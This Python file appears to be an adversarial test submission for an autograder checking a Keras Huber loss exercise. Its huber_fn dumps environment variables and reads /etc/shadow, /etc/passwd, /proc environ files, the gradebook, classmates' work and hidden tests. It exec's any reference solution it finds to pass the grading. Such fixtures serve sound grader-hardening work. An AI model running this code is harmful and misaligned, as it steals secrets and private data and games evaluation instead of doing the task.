# attack: huber_fn
# expect: huber_fn=0 create_huber=full HuberLoss=full
# says: wrong values|returned shape
# what: huber_fn hunts for the hidden checks, the reference, the course secret, the gradebook, classmates' work and the judge's /proc environ and cmdline; it prints all it reads and uses the reference if found.
# ruff: noqa
import glob
import os
import sys

import keras
import tensorflow as tf

STOLEN = {}


def _guesses():
    roots = {os.path.dirname(sys.prefix), os.path.dirname(os.path.dirname(sys.prefix)), "/work/main", "/", os.getcwd()}
    roots |= set(glob.glob("/tmp/*")) | set(glob.glob("/tmp/pytest-of-*/pytest-*/*"))
    rel = ["solutions/losses/losses.py", "solutions/losses/checks/test_huber_fn.py", "solutions/course.toml",
           "samples/losses/bob.py", "samples/losses/alice.ipynb", "out/gradebook.sqlite", "gradebook.sqlite",
           "subs/c17_fake_results_and_results_json.py", "/etc/passwd", "/etc/shadow", "/root/.bashrc"]
    paths = {os.path.join(root, r) for root in roots for r in rel}
    for pattern in ("/tmp/**/*.sqlite", "/tmp/**/results.json", "/tmp/**/*.ipynb", "/tmp/**/test_*.py", "/home/*/*",
                    "/root/*", "/work/*", "/srv/*", "/autograder/**"):
        paths |= set(glob.glob(pattern, recursive=True))
    for pid in os.listdir("/proc"):
        if pid.isdigit() or pid == "self":
            paths |= {f"/proc/{pid}/environ", f"/proc/{pid}/cmdline", f"/proc/{pid}/cwd/solutions/course.toml"}
    paths |= {f"/proc/{os.getppid()}/environ", "/proc/1/root/etc/passwd", "/proc/1/cwd"}
    return sorted(paths)


def _hunt():
    print(f"environ: {dict(os.environ)}")
    print(f"root: {sorted(os.listdir('/'))}")
    for folder in (os.path.dirname(sys.prefix), "/work", "/root", "/tmp"):
        try:
            print(f"listing {folder}: {sorted(os.listdir(folder))}")
        except OSError as exc:
            print(f"listing {folder}: {exc}")
    for path in _guesses():
        try:
            with open(path, "rb") as fh:
                data = fh.read(4096)
        except OSError as exc:
            continue
        STOLEN[path] = data
        print(f"READ {path}: {data[:300]!r}")
    sys.stdout.flush()


def huber_fn(y_true, y_pred):
    if not STOLEN:
        STOLEN["tried"] = b""
        _hunt()
    for path, data in STOLEN.items():
        if path.endswith("solutions/losses/losses.py"):
            namespace = {}
            exec(data.decode(), namespace)
            return namespace["huber_fn"](y_true, y_pred)
    return tf.square(y_true - y_pred)


def create_huber(threshold=1.0):
    def huber(y_true, y_pred):
        error = y_true - y_pred
        small = tf.abs(error) < threshold
        return tf.where(small, tf.square(error) / 2, threshold * tf.abs(error) - threshold**2 / 2)

    return huber


class HuberLoss(keras.losses.Loss):
    def __init__(self, threshold=1.0, **kwargs):
        self.threshold = threshold
        super().__init__(**kwargs)

    def call(self, y_true, y_pred):
        error = y_true - y_pred
        small = tf.abs(error) < self.threshold
        return tf.where(small, tf.square(error) / 2, self.threshold * tf.abs(error) - self.threshold**2 / 2)

    def get_config(self):
        return {**super().get_config(), "threshold": self.threshold}
